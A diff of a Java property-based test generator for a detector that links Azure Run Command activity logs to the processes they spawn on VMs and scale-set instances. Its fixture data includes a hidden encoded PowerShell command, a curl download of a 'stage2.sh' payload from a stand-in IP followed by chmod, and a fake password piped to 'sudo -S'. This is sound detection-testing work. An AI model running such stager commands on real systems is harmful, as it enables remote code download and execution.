@@ -1,10 +1,13 @@
 package io.github.rcdetect.reference;
 
+import io.github.rcdetect.reference.ReferenceModel.Family;
 import io.github.rcdetect.reference.Scenario.ActivityRecord;
 import io.github.rcdetect.reference.Scenario.ActivityShape;
+import io.github.rcdetect.reference.Scenario.InventoryResource;
 import io.github.rcdetect.reference.Scenario.ProcessRecord;
 import io.github.rcdetect.reference.Scenario.ProcessShape;
 import io.github.rcdetect.reference.Scenario.Result;
+import io.github.rcdetect.reference.Scenario.Target;
 import io.github.rcdetect.testing.records.TimeFormat;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
@@ -26,6 +29,13 @@ import java.util.Set;
  * processes at and around 0 s and 120 s after any record, script children and look-alikes (other parents, the
  * console host, fork against exec, other shells, waagent paths that almost match), case and whitespace variants,
  * {@code script<N>} with N of one to six digits, every input shape and time format.
+ *
+ * <p>Fleet scenarios add sections 9 and 10 to those: VMs and scale-set instances named by resource id (the machine or a
+ * managed run command on it, in Azure's two spellings, in resource groups named like a type) or by name alone; guests
+ * that report their VM's name, an FQDN, a computer name of their own, a scale-set prefix with the base-36 instance
+ * id, or Elastic Agent's cloud metadata (another cloud's too); an inventory that lists some of them, wrongly, twice or
+ * under another machine's name; invocations of both families, failed ones too; and script children of both handlers
+ * with their near misses, so that v1 actions meet v2 processes and the reverse.
  */
 public final class Scenarios {
     static final List<String> CORRELATION_IDS = List.of(
@@ -36,7 +46,17 @@ public final class Scenarios {
             "f00dbabe-1234-4abc-9def-0123456789ab",
             "Bd3e4f5a-6b7c-4d8e-9f0a-1b2c3d4e5f6a");
 
+    /** The RunAs password fleet scenarios put on the handler's command line: no alert may show it. */
+    public static final String RUNAS_PASSWORD = "Winter2026!Deploy";
+
     private static final String WAAGENT = "/var/lib/waagent/run-command/download/";
+    private static final String HANDLER = "/var/lib/waagent/run-command-handler/";
+    private static final String RUNAS = "/home/deploy/waagent/run-command-handler-runas/";
+    private static final String WINDOWS_HANDLER =
+            "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandHandlerWindows\\2.0.14\\Downloads\\";
+
+    /** The plain scenarios' three VMs, each guest reporting its VM's name, and no inventory. */
+    private static final Fleet VMS = new Fleet(List.of(plainVm(0), plainVm(1), plainVm(2)));
 
     private Scenarios() {}
 
@@ -50,20 +70,84 @@ public final class Scenarios {
     }
 
     public static Arbitrary<Scenario> scenarios(boolean definedTiesOnly) {
-        return invocation()
+        Mix plain = new Mix(
+                Arbitraries.frequency(Tuple.of(5, 0), Tuple.of(2, 1), Tuple.of(1, 2)),
+                Arbitraries.just(Family.ACTION),
+                Arbitraries.just(false),
+                Arbitraries.frequencyOf(
+                        Tuple.of(5, windowsTemplate(powershellCommandLine())),
+                        Tuple.of(4, linuxTemplate(waagentPaths()))),
+                Arbitraries.just(""),
+                10);
+        return scenarios(VMS, plain).map(scenario -> definedTiesOnly ? withDefinedTies(scenario) : scenario);
+    }
+
+    /** Batches of {@code size} fleet scenarios, each on hosts of its own; none with a tie docs/choices.md leaves open. */
+    public static Arbitrary<List<Scenario>> fleetBatches(int size) {
+        return fleetScenarios().list().ofSize(size).map(Scenarios::onOwnHosts);
+    }
+
+    public static Arbitrary<Scenario> fleetScenarios() {
+        Mix fleet = new Mix(
+                Arbitraries.integers().between(0, 2),
+                Arbitraries.of(Family.class),
+                Arbitraries.of(true, false),
+                Arbitraries.frequencyOf(
+                        Tuple.of(3, windowsTemplate(powershellCommandLine())),
+                        Tuple.of(3, linuxTemplate(waagentPaths())),
+                        Tuple.of(4, linuxTemplate(handlerPaths())),
+                        Tuple.of(2, windowsTemplate(handlerCommandLine())),
+                        Tuple.of(1, runAsTemplate())),
+                Arbitraries.frequency(
+                        Tuple.of(5, ""),
+                        Tuple.of(1, ".corp.contoso.com"),
+                        Tuple.of(1, ".internal.cloudapp.net"),
+                        Tuple.of(1, ".reddog.microsoft.com")),
+                12);
+        return Combinators.combine(machine(0), machine(1), machine(2))
+                .as((a, b, c) -> new Fleet(List.of(a, b, c)))
+                .flatMap(machines -> scenarios(machines, fleet))
+                .map(Scenarios::withDefinedTies);
+    }
+
+    /**
+     * What a kind of scenario draws from.
+     *
+     * @param machine which machine of the fleet an invocation runs on
+     * @param family the family of an invocation's operation
+     * @param runCommandChild whether its records name a managed run command on the machine rather than the machine
+     * @param template what a process is
+     * @param domain the suffix a guest reports after its name
+     * @param maxProcesses at most this many processes
+     */
+    private record Mix(
+            Arbitrary<Integer> machine,
+            Arbitrary<Family> family,
+            Arbitrary<Boolean> runCommandChild,
+            Arbitrary<Template> template,
+            Arbitrary<String> domain,
+            int maxProcesses) {}
+
+    private static Arbitrary<Scenario> scenarios(Fleet fleet, Mix mix) {
+        return invocation(fleet, mix)
                 .list()
                 .ofMaxSize(4)
                 .withSizeDistribution(RandomDistribution.uniform())
                 .flatMap(invocations -> {
                     List<ActivityRecord> activity = new ArrayList<>();
-                    invocations.forEach(activity::addAll);
-                    return process(activity)
+                    List<Anchor> anchors = new ArrayList<>();
+                    for (Planned invocation : invocations) {
+                        activity.addAll(invocation.records());
+                        invocation
+                                .records()
+                                .forEach(record -> anchors.add(new Anchor(record.at(), invocation.machine())));
+                    }
+                    return process(fleet, anchors, mix)
                             .list()
-                            .ofMaxSize(10)
+                            .ofMaxSize(mix.maxProcesses())
                             .withSizeDistribution(RandomDistribution.uniform())
-                            .map(processes -> new Scenario(activity, processes));
-                })
-                .map(scenario -> definedTiesOnly ? withDefinedTies(scenario) : scenario);
+                            .map(processes -> new Scenario(activity, processes, fleet.inventory()));
+                });
     }
 
     /** Scenario i on hosts {@code s<i>-vm<k>}; process identities unique across the batch. */
@@ -76,9 +160,191 @@ public final class Scenarios {
             for (int j = 0; j < renamed.processes().size(); j++) {
                 processes.add(renamed.processes().get(j).withIdentity(prefix + "p" + j, 1001 + 7L * j + i));
             }
-            batch.add(new Scenario(renamed.activity(), processes));
+            batch.add(new Scenario(renamed.activity(), processes, renamed.inventory()));
         }
         return batch;
+    }
+
+    // ---- machines -------------------------------------------------------------------------------------------------
+
+    /**
+     * One machine of a scenario: the resource its records name, the computer name its guest reports, whether Elastic
+     * Agent's cloud metadata names it too, and what the inventory lists for it.
+     */
+    private record Machine(Target target, String computerName, Cloud cloud, List<InventoryResource> listed) {
+        String resourceName() {
+            return target.scaleSet() == null ? target.machine() : target.scaleSet() + "_" + target.machine();
+        }
+    }
+
+    private record Fleet(List<Machine> machines) {
+        List<InventoryResource> inventory() {
+            List<InventoryResource> inventory = new ArrayList<>();
+            machines.forEach(machine -> inventory.addAll(machine.listed()));
+            return inventory;
+        }
+    }
+
+    /** The cloud metadata of a guest's events: none, Azure's (with or without {@code cloud.provider}), another cloud's. */
+    private enum Cloud {
+        NONE(null),
+        AZURE("azure"),
+        NO_PROVIDER(null),
+        OTHER("aws");
+
+        final String provider;
+
+        Cloud(String provider) {
+            this.provider = provider;
+        }
+    }
+
+    private static Machine plainVm(int index) {
+        return new Machine(Target.vm("vm" + index), "vm" + index, Cloud.NONE, List.of());
+    }
+
+    /** Machine {@code k} of a fleet: a VM or a scale-set instance, with id {@code 0} up to the largest of six base-36 digits. */
+    private static Arbitrary<Machine> machine(int k) {
+        return Arbitraries.frequency(
+                        Tuple.of(4, -1L),
+                        Tuple.of(1, 0L),
+                        Tuple.of(1, 3L),
+                        Tuple.of(1, 36L),
+                        Tuple.of(2, 75L),
+                        Tuple.of(1, 1295L),
+                        Tuple.of(1, 2_176_782_335L))
+                .flatMap(instance -> instance < 0 ? vm(k) : scaleSetInstance(k, instance));
+    }
+
+    /** What the inventory lists for a VM. */
+    private enum VmListing {
+        NONE,
+        /** The VM, under its guest's computer name. */
+        LISTED,
+        /** The VM, under another computer name. */
+        WRONG,
+        /** The VM and another one, under its guest's computer name. */
+        SHARED,
+        /** The VM, under the resource name of the next machine of the fleet. */
+        OTHERS_NAME
+    }
+
+    /** What the inventory lists for a scale-set instance. */
+    private enum InstanceListing {
+        NONE,
+        /** Its scale set, with the prefix its guest's computer name starts with. */
+        PREFIX,
+        /** The instance as a scale-set VM, under its guest's computer name. */
+        INSTANCE,
+        /** The instance as a scale-set VM, and another scale set with the prefix its guest's name starts with. */
+        INSTANCE_AND_OTHER_PREFIX,
+        /** Its scale set, with another prefix. */
+        WRONG_PREFIX,
+        /** Its scale set and another one, with the same prefix. */
+        SHARED_PREFIX
+    }
+
+    /** VM {@code k}, whose name may hold a dot (Linux VM names may), as its guest's computer name then does. */
+    private static Arbitrary<Machine> vm(int k) {
+        return Arbitraries.frequency(Tuple.of(5, "vm" + k), Tuple.of(2, "vm" + k + ".prod"))
+                .flatMap(name -> vm(k, name));
+    }
+
+    private static Arbitrary<Machine> vm(int k, String name) {
+        Arbitrary<String> computerName = Arbitraries.frequency(Tuple.of(4, name), Tuple.of(3, "guest" + k));
+        Arbitrary<VmListing> listing = Arbitraries.frequency(
+                Tuple.of(3, VmListing.NONE),
+                Tuple.of(4, VmListing.LISTED),
+                Tuple.of(1, VmListing.WRONG),
+                Tuple.of(1, VmListing.SHARED),
+                Tuple.of(1, VmListing.OTHERS_NAME));
+        return Combinators.combine(
+                        target(null, name), computerName, cloud(), listing, Arbitraries.of(Casing.class), shapes())
+                .as((target, computer, cloud, list, casing, graph) -> {
+                    Target listed = new Target(null, name, null, target.group(), false);
+                    List<InventoryResource> entries = switch (list) {
+                        case NONE -> List.of();
+                        case LISTED -> List.of(new InventoryResource(listed, casing.apply(computer), graph));
+                        case WRONG -> List.of(new InventoryResource(listed, "other" + k, graph));
+                        case SHARED ->
+                            List.of(
+                                    new InventoryResource(listed, casing.apply(computer), graph),
+                                    new InventoryResource(
+                                            new Target(null, "spare" + k, null, target.group(), false),
+                                            computer,
+                                            graph));
+                        case OTHERS_NAME -> List.of(new InventoryResource(listed, "vm" + (k + 1) % 3, graph));
+                    };
+                    return new Machine(target, computer, cloud, entries);
+                });
+    }
+
+    /**
+     * Instance {@code id} of scale set {@code ss<k>}; its guest named by a prefix (the scale set's name, or another)
+     * and the id in base 36, six digits, as Uniform orchestration names it, or by a computer name of its own.
+     */
+    private static Arbitrary<Machine> scaleSetInstance(int k, long id) {
+        String scaleSet = "ss" + k;
+        String digits = Long.toString(id, 36);
+        String suffix = "0".repeat(6 - digits.length()) + digits;
+        Arbitrary<String> prefix = Arbitraries.of(scaleSet, "front" + k);
+        // Unpadded digits name no instance; a computer name of its own is Flexible orchestration's.
+        Arbitrary<String> ending = Arbitraries.frequency(Tuple.of(6, suffix), Tuple.of(1, digits), Tuple.of(1, ""));
+        Arbitrary<InstanceListing> listing = Arbitraries.frequency(
+                Tuple.of(2, InstanceListing.NONE),
+                Tuple.of(4, InstanceListing.PREFIX),
+                Tuple.of(2, InstanceListing.INSTANCE),
+                Tuple.of(1, InstanceListing.INSTANCE_AND_OTHER_PREFIX),
+                Tuple.of(1, InstanceListing.WRONG_PREFIX),
+                Tuple.of(1, InstanceListing.SHARED_PREFIX));
+        return Combinators.combine(
+                        target(scaleSet, Long.toString(id)),
+                        prefix,
+                        ending,
+                        cloud(),
+                        listing,
+                        Arbitraries.of(Casing.class),
+                        shapes())
+                .as((target, p, end, cloud, list, casing, graph) -> {
+                    String computer = end.isEmpty() ? "guest" + k : p + end;
+                    Target set = new Target(scaleSet, null, null, target.group(), false);
+                    Target spare = new Target("spare" + k, null, null, target.group(), false);
+                    Target instance = new Target(scaleSet, Long.toString(id), null, target.group(), false);
+                    List<InventoryResource> entries = switch (list) {
+                        case NONE -> List.of();
+                        case PREFIX -> List.of(new InventoryResource(set, casing.apply(p), graph));
+                        case INSTANCE -> List.of(new InventoryResource(instance, casing.apply(computer), graph));
+                        case INSTANCE_AND_OTHER_PREFIX ->
+                            List.of(
+                                    new InventoryResource(instance, casing.apply(computer), graph),
+                                    new InventoryResource(spare, p, graph));
+                        case WRONG_PREFIX -> List.of(new InventoryResource(set, "other" + k, graph));
+                        case SHARED_PREFIX ->
+                            List.of(new InventoryResource(set, p, graph), new InventoryResource(spare, p, graph));
+                    };
+                    return new Machine(target, computer, cloud, entries);
+                });
+    }
+
+    /** The machine as its records name it: mostly by resource id, in a group that may be named like a type. */
+    private static Arbitrary<Target> target(String scaleSet, String machine) {
+        Arbitrary<String> group =
+                Arbitraries.frequency(Tuple.of(8, "prod-rg"), Tuple.of(1, "virtualMachines"), Tuple.of(1, "providers"));
+        Arbitrary<Boolean> byName = Arbitraries.frequency(Tuple.of(5, false), Tuple.of(1, true));
+        return Combinators.combine(group, byName).as((g, name) -> new Target(scaleSet, machine, null, g, name));
+    }
+
+    private static Arbitrary<Cloud> cloud() {
+        return Arbitraries.frequency(
+                Tuple.of(6, Cloud.NONE),
+                Tuple.of(3, Cloud.AZURE),
+                Tuple.of(1, Cloud.NO_PROVIDER),
+                Tuple.of(1, Cloud.OTHER));
+    }
+
+    /** Whether an inventory entry comes in Resource Graph's shape or the az CLI's. */
+    private static Arbitrary<Boolean> shapes() {
+        return Arbitraries.of(true, false);
     }
 
     // ---- activity -------------------------------------------------------------------------------------------------
@@ -105,19 +371,51 @@ public final class Scenarios {
         }
     }
 
+    /** Which operation a record is, against its invocation's family: mostly the family's own, in Azure's spellings. */
+    private enum Operation {
+        OWN,
+        OWN_IN_ARM_CASE,
+        OWN_IN_LOWER_CASE,
+        DEALLOCATE,
+        OTHER_FAMILY;
+
+        String name(Family family, boolean scaleSet) {
+            String machine = scaleSet ? "virtualMachineScaleSets/virtualMachines" : "virtualMachines";
+            return switch (this) {
+                case OWN -> armCase(family, machine).toUpperCase(Locale.ROOT);
+                case OWN_IN_ARM_CASE -> armCase(family, machine);
+                case OWN_IN_LOWER_CASE -> armCase(family, machine).toLowerCase(Locale.ROOT);
+                case DEALLOCATE -> ("Microsoft.Compute/" + machine + "/deallocate/action").toUpperCase(Locale.ROOT);
+                case OTHER_FAMILY ->
+                    armCase(family == Family.ACTION ? Family.MANAGED : Family.ACTION, machine)
+                            .toUpperCase(Locale.ROOT);
+            };
+        }
+
+        private static String armCase(Family family, String machine) {
+            return "Microsoft.Compute/" + machine
+                    + (family == Family.ACTION ? "/runCommand/action" : "/runCommands/write");
+        }
+    }
+
     private record RecordPlan(
             Result result,
             long offset,
             Spelling spelling,
             boolean namesCaller,
-            String operation,
+            Operation operation,
             ActivityShape shape,
             TimeFormat timeFormat,
             Casing vmCasing) {}
 
-    /** The records of one invocation: the first at the invocation's time, the others up to 150 s later. */
-    private static Arbitrary<List<ActivityRecord>> invocation() {
-        Arbitrary<Integer> host = Arbitraries.frequency(Tuple.of(5, 0), Tuple.of(2, 1), Tuple.of(1, 2));
+    /** An invocation's records and the machine of the fleet they name. */
+    private record Planned(int machine, List<ActivityRecord> records) {}
+
+    /**
+     * The records of one invocation: the first at the invocation's time, the others up to 150 s later. A machine
+     * named by name alone is named so in the ECS shapes only, and in one spelling.
+     */
+    private static Arbitrary<Planned> invocation(Fleet fleet, Mix mix) {
         Arbitrary<Long> at = Arbitraries.frequencyOf(
                 Tuple.of(3, Arbitraries.longs().between(0, 300_000)),
                 // Few distinct values, so invocations often share a millisecond or lie 120 s apart.
@@ -127,22 +425,33 @@ public final class Scenarios {
                 Arbitraries.of("mallory@contoso.com", "svc-deploy@contoso.com").injectNull(0.15);
         Arbitrary<List<RecordPlan>> plans =
                 recordPlan().list().ofMinSize(1).ofMaxSize(4).withSizeDistribution(RandomDistribution.uniform());
-        return Combinators.combine(host, at, correlationId, caller, plans).as((h, t, id, email, recordPlans) -> {
-            List<ActivityRecord> records = new ArrayList<>();
-            for (int i = 0; i < recordPlans.size(); i++) {
-                RecordPlan plan = recordPlans.get(i);
-                records.add(new ActivityRecord(
-                        t + (i == 0 ? 0 : plan.offset()),
-                        plan.vmCasing().apply("vm" + h),
-                        plan.operation(),
-                        id == null ? null : spell(id, plan.spelling()),
-                        plan.result(),
-                        plan.namesCaller() ? email : null,
-                        plan.shape(),
-                        plan.timeFormat()));
-            }
-            return records;
-        });
+        return Combinators.combine(mix.machine(), at, correlationId, caller, plans, mix.family(), mix.runCommandChild())
+                .as((h, t, id, email, recordPlans, family, child) -> {
+                    Machine machine = fleet.machines().get(h);
+                    Target named = child
+                            ? new Target(
+                                    machine.target().scaleSet(),
+                                    machine.target().machine(),
+                                    "rc-" + family.name().toLowerCase(Locale.ROOT),
+                                    machine.target().group(),
+                                    machine.target().byName())
+                            : machine.target();
+                    List<ActivityRecord> records = new ArrayList<>();
+                    for (int i = 0; i < recordPlans.size(); i++) {
+                        RecordPlan plan = recordPlans.get(i);
+                        boolean byName = named.byName();
+                        records.add(new ActivityRecord(
+                                t + (i == 0 ? 0 : plan.offset()),
+                                byName ? named : named.withName(plan.vmCasing()::apply),
+                                plan.operation().name(family, named.scaleSet() != null),
+                                id == null ? null : spell(id, plan.spelling()),
+                                plan.result(),
+                                plan.namesCaller() ? email : null,
+                                byName && plan.shape() == ActivityShape.RAW ? ActivityShape.ECS_NESTED : plan.shape(),
+                                plan.timeFormat()));
+                    }
+                    return new Planned(h, records);
+                });
     }
 
     private static Arbitrary<RecordPlan> recordPlan() {
@@ -158,12 +467,12 @@ public final class Scenarios {
         Arbitrary<Spelling> spelling = Arbitraries.frequency(
                 Tuple.of(6, Spelling.AS_IS), Tuple.of(1, Spelling.UPPER), Tuple.of(1, Spelling.LOWER));
         Arbitrary<Boolean> namesCaller = Arbitraries.frequency(Tuple.of(5, true), Tuple.of(1, false));
-        Arbitrary<String> operation = Arbitraries.frequency(
-                Tuple.of(12, Scenario.RUN_COMMAND),
-                Tuple.of(2, "Microsoft.Compute/virtualMachines/runCommand/action"),
-                Tuple.of(1, "microsoft.compute/virtualmachines/runcommand/action"),
-                Tuple.of(1, "MICROSOFT.COMPUTE/VIRTUALMACHINES/DEALLOCATE/ACTION"),
-                Tuple.of(1, "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE"));
+        Arbitrary<Operation> operation = Arbitraries.frequency(
+                Tuple.of(12, Operation.OWN),
+                Tuple.of(2, Operation.OWN_IN_ARM_CASE),
+                Tuple.of(1, Operation.OWN_IN_LOWER_CASE),
+                Tuple.of(1, Operation.DEALLOCATE),
+                Tuple.of(1, Operation.OTHER_FAMILY));
         Arbitrary<ActivityShape> shape = Arbitraries.frequency(
                 Tuple.of(4, ActivityShape.RAW),
                 Tuple.of(1, ActivityShape.ECS_NESTED),
@@ -210,26 +519,38 @@ public final class Scenarios {
             String parentCommandLine,
             List<String> parentArgs) {}
 
-    /** A process near one of the scenario's records: mostly on its host and within -5..125 s of it. */
-    private static Arbitrary<ProcessRecord> process(List<ActivityRecord> activity) {
-        Arbitrary<ActivityRecord> anchor = activity.isEmpty()
-                ? Arbitraries.just(new ActivityRecord(
-                        0, "vm0", "", null, Result.START, null, ActivityShape.RAW, TimeFormat.MILLIS_Z))
-                : Arbitraries.of(activity);
+    /** A time and the fleet's machine there, for a process to happen near. */
+    private record Anchor(long at, int machine) {}
+
+    /**
+     * A process near one of the scenario's records: mostly on its machine and within -5..125 s of it; named as its
+     * guest reports itself, in any case, with a domain suffix now and then, and with the agent's cloud metadata where
+     * the machine has it.
+     */
+    private static Arbitrary<ProcessRecord> process(Fleet fleet, List<Anchor> anchors, Mix mix) {
+        Arbitrary<Anchor> anchor = anchors.isEmpty() ? Arbitraries.just(new Anchor(0, 0)) : Arbitraries.of(anchors);
         Arbitrary<Long> delay = Arbitraries.frequencyOf(
                 Tuple.of(4, Arbitraries.longs().between(-5_000, 125_000)),
                 Tuple.of(4, Arbitraries.of(0L, 1L, -1L, 119_999L, 120_000L, 120_001L)),
                 Tuple.of(1, Arbitraries.longs().between(-200_000, 300_000)));
         Arbitrary<Integer> otherHost =
                 Arbitraries.frequency(Tuple.of(9, -1), Tuple.of(1, 0), Tuple.of(1, 1), Tuple.of(1, 2));
-        Arbitrary<Template> template =
-                Arbitraries.frequencyOf(Tuple.of(5, windowsTemplate()), Tuple.of(4, linuxTemplate()));
-        return Combinators.combine(anchor, delay, otherHost, Arbitraries.of(Casing.class), template, timeFormat())
-                .as((near, d, other, casing, t, format) -> {
-                    String host = other >= 0 ? "vm" + other : ReferenceModel.hostKey(near.vm());
+        return Combinators.combine(
+                        anchor,
+                        delay,
+                        otherHost,
+                        Arbitraries.of(Casing.class),
+                        mix.template(),
+                        timeFormat(),
+                        mix.domain())
+                .as((near, d, other, casing, t, format, domain) -> {
+                    Machine machine = fleet.machines().get(other >= 0 ? other : near.machine());
+                    boolean cloud = machine.cloud() != Cloud.NONE;
                     return new ProcessRecord(
                             near.at() + d,
-                            casing.apply(host),
+                            casing.apply(machine.computerName()) + domain,
+                            cloud ? casing.apply(machine.resourceName()) : null,
+                            cloud ? machine.cloud().provider : null,
                             t.shape(),
                             t.action(),
                             t.eventType(),
@@ -255,7 +576,8 @@ public final class Scenarios {
             List.of("notepad.exe", "notepad.exe C:\\Users\\Público\\ñ.txt"),
             List.of("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgA"));
 
-    private static Arbitrary<Template> windowsTemplate() {
+    /** A Windows process under a parent whose command line is one of {@code parentCommandLines}. */
+    private static Arbitrary<Template> windowsTemplate(Arbitrary<String> parentCommandLines) {
         Arbitrary<ProcessShape> shape = Arbitraries.frequency(
                 Tuple.of(5, ProcessShape.DEFEND),
                 Tuple.of(1, ProcessShape.DEFEND_DOTTED),
@@ -275,12 +597,7 @@ public final class Scenarios {
                 Tuple.of(1, "cmd.exe"),
                 Tuple.of(1, "explorer.exe"));
         return Combinators.combine(
-                        shape,
-                        action,
-                        startTypes,
-                        Arbitraries.of(WINDOWS_CHILDREN),
-                        parentName,
-                        powershellCommandLine())
+                        shape, action, startTypes, Arbitraries.of(WINDOWS_CHILDREN), parentName, parentCommandLines)
                 .as((s, a, types, child, parent, parentCommandLine) -> {
                     boolean sysmon = s == ProcessShape.SYSMON_INGEST || s == ProcessShape.SYSMON_WINLOGBEAT;
                     String eventAction = sysmon ? "start" : a;
@@ -353,6 +670,29 @@ public final class Scenarios {
                 });
     }
 
+    /**
+     * The managed handler's PowerShell on a script in its plugin folder, in the spellings and with the options nothing
+     * documents; and look-alikes: the v1 extension's folder, the handler's name outside {@code \Packages\Plugins\},
+     * forward slashes, the v1 agent's own script.
+     */
+    private static Arbitrary<String> handlerCommandLine() {
+        return Arbitraries.frequency(
+                Tuple.of(4, "powershell -ExecutionPolicy Unrestricted -File " + WINDOWS_HANDLER + "script0.ps1"),
+                Tuple.of(
+                        2,
+                        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive"
+                                + " -ExecutionPolicy Bypass -File \"" + WINDOWS_HANDLER + "rc-managed-0.ps1\""),
+                Tuple.of(1, ("powershell.exe -File " + WINDOWS_HANDLER + "script1.ps1").toLowerCase(Locale.ROOT)),
+                Tuple.of(1, ("powershell -Command & '" + WINDOWS_HANDLER + "script0.ps1'").toUpperCase(Locale.ROOT)),
+                Tuple.of(
+                        1,
+                        "powershell -ExecutionPolicy Unrestricted -File"
+                                + " C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\Downloads\\script0.ps1"),
+                Tuple.of(1, "powershell -File C:\\Temp\\Microsoft.CPlat.Core.RunCommandHandlerWindows\\script0.ps1"),
+                Tuple.of(1, "powershell -File " + WINDOWS_HANDLER.replace('\\', '/') + "script0.ps1"),
+                Tuple.of(1, "powershell -ExecutionPolicy Unrestricted -File script3.ps1"));
+    }
+
     private static final List<List<String>> LINUX_CHILDREN = List.of(
             List.of("curl", "curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"),
             List.of("chmod", "chmod +x /tmp/.s"),
@@ -369,7 +709,8 @@ public final class Scenarios {
         NONE
     }
 
-    private static Arbitrary<Template> linuxTemplate() {
+    /** A Linux process under a parent that runs one of {@code paths}. */
+    private static Arbitrary<Template> linuxTemplate(Arbitrary<String> paths) {
         Arbitrary<ProcessShape> shape =
                 Arbitraries.frequency(Tuple.of(5, ProcessShape.DEFEND), Tuple.of(1, ProcessShape.DEFEND_DOTTED));
         Arbitrary<String> action = Arbitraries.frequency(Tuple.of(6, "exec"), Tuple.of(2, "fork"), Tuple.of(1, "end"));
@@ -384,23 +725,13 @@ public final class Scenarios {
                 Tuple.of(1, "tcsh"),
                 Tuple.of(1, "Bash"),
                 Tuple.of(1, "python3"));
-        Arbitrary<String> path = Arbitraries.frequency(
-                Tuple.of(6, WAAGENT + "0/script.sh"),
-                Tuple.of(2, WAAGENT + "17/script.sh"),
-                Tuple.of(1, WAAGENT + "/script.sh"),
-                Tuple.of(1, WAAGENT + "a/b/script.sh"),
-                Tuple.of(1, WAAGENT + "script.sh"),
-                Tuple.of(1, WAAGENT + "1/script.sh.bak"),
-                Tuple.of(1, "/var/lib/WAAgent/run-command/download/1/script.sh"),
-                Tuple.of(1, WAAGENT + "1/Script.sh"),
-                Tuple.of(1, "/tmp/script.sh"));
         Arbitrary<ArgsLayout> layout = Arbitraries.frequency(
                 Tuple.of(5, ArgsLayout.SHELL_AND_PATH),
                 Tuple.of(2, ArgsLayout.PATH_ONLY),
                 Tuple.of(1, ArgsLayout.DASH_C),
                 Tuple.of(1, ArgsLayout.ONE_STRING),
                 Tuple.of(1, ArgsLayout.NONE));
-        return Combinators.combine(shape, action, Arbitraries.of(LINUX_CHILDREN), shell, path, layout)
+        return Combinators.combine(shape, action, Arbitraries.of(LINUX_CHILDREN), shell, paths, layout)
                 .as((s, a, child, parent, script, argsLayout) -> {
                     List<String> args = switch (argsLayout) {
                         case SHELL_AND_PATH -> List.of(parent, script);
@@ -421,12 +752,75 @@ public final class Scenarios {
                 });
     }
 
+    /** The v1 agent's script path, and paths that almost are it. */
+    private static Arbitrary<String> waagentPaths() {
+        return Arbitraries.frequency(
+                Tuple.of(6, WAAGENT + "0/script.sh"),
+                Tuple.of(2, WAAGENT + "17/script.sh"),
+                Tuple.of(1, WAAGENT + "/script.sh"),
+                Tuple.of(1, WAAGENT + "a/b/script.sh"),
+                Tuple.of(1, WAAGENT + "script.sh"),
+                Tuple.of(1, WAAGENT + "1/script.sh.bak"),
+                Tuple.of(1, "/var/lib/WAAgent/run-command/download/1/script.sh"),
+                Tuple.of(1, WAAGENT + "1/Script.sh"),
+                Tuple.of(1, "/tmp/script.sh"));
+    }
+
+    /**
+     * The managed handler's script folders (an inline script, a {@code scriptUri}'s file, unnamed parameters in the
+     * same argument, RunAs), and paths that almost are them: the folder only further in, another subfolder, another
+     * case, a user of no segment or of two, a home that is not under {@code /home/}.
+     */
+    private static Arbitrary<String> handlerPaths() {
+        return Arbitraries.frequency(
+                Tuple.of(6, HANDLER + "download/rc-managed/0/script.sh"),
+                Tuple.of(2, HANDLER + "download/rc-managed/12/install-agent.sh"),
+                Tuple.of(2, HANDLER + "immediateDownload/rc-now/0/script.sh"),
+                Tuple.of(1, HANDLER + "download/rc-managed/0/script.sh --force 7"),
+                Tuple.of(1, HANDLER + "download/"),
+                Tuple.of(2, RUNAS + "download/rc-runas/0/script.sh"),
+                Tuple.of(1, RUNAS + "immediateDownload/rc-runas/1/script.sh"),
+                Tuple.of(1, "/opt/backup" + HANDLER + "download/rc-managed/0/script.sh"),
+                Tuple.of(1, HANDLER + "downloads/rc-managed/0/script.sh"),
+                Tuple.of(1, "/var/lib/waagent/Run-Command-Handler/download/rc-managed/0/script.sh"),
+                Tuple.of(1, HANDLER + "download"),
+                Tuple.of(1, "/home//waagent/run-command-handler-runas/download/rc-runas/0/script.sh"),
+                Tuple.of(1, "/home/deploy/tmp/waagent/run-command-handler-runas/download/rc-runas/0/script.sh"),
+                Tuple.of(1, "/root/waagent/run-command-handler-runas/download/rc-runas/0/script.sh"));
+    }
+
+    /**
+     * The RunAs handler's {@code bash -c "echo <password> | sudo -S -u deploy <script>"} and the {@code sudo} it
+     * starts: a script child when the endpoint split the parent's line into words (the script's path is then an
+     * argument of its own), none when it kept the {@code -c} string whole. Either way the password is on the parent's
+     * command line.
+     */
+    private static Arbitrary<Template> runAsTemplate() {
+        String script = RUNAS + "download/rc-runas/0/script.sh";
+        String line = "echo " + RUNAS_PASSWORD + " | sudo -S -u deploy " + script;
+        Arbitrary<List<String>> args = Arbitraries.of(
+                List.of("/bin/bash", "-c", line),
+                List.of("/bin/bash", "-c", "echo", RUNAS_PASSWORD, "|", "sudo", "-S", "-u", "deploy", script));
+        Arbitrary<ProcessShape> shape =
+                Arbitraries.frequency(Tuple.of(5, ProcessShape.DEFEND), Tuple.of(1, ProcessShape.DEFEND_DOTTED));
+        return Combinators.combine(shape, args)
+                .as((s, parentArgs) -> new Template(
+                        s,
+                        "exec",
+                        List.of("start"),
+                        "sudo",
+                        "sudo -S -u deploy " + script,
+                        "bash",
+                        "/bin/bash -c " + line,
+                        parentArgs));
+    }
+
     // ---- ties -----------------------------------------------------------------------------------------------------
 
     /**
      * The scenario without the ties docs/choices.md names no rule for: the records of an invocation agree on the caller,
-     * and those at its earliest millisecond on the spelling of its id; invocations without id on one host are a
-     * millisecond apart at least.
+     * and those at its earliest millisecond on the spelling of its id; invocations without id on one machine are a
+     * millisecond apart at least. (A machine named by name alone is named in one spelling, see {@link #invocation}.)
      */
     static Scenario withDefinedTies(Scenario scenario) {
         List<ActivityRecord> records = new ArrayList<>(scenario.activity());
@@ -451,8 +845,8 @@ public final class Scenarios {
             ActivityRecord record = records.get(i);
             if (record.correlationId() == null) {
                 if (isRunCommandEvent(record)) {
-                    Set<Long> taken =
-                            idlessTimes.computeIfAbsent(ReferenceModel.hostKey(record.vm()), host -> new HashSet<>());
+                    Set<Long> taken = idlessTimes.computeIfAbsent(
+                            ReferenceModel.machine(record).key(), host -> new HashSet<>());
                     long at = record.at();
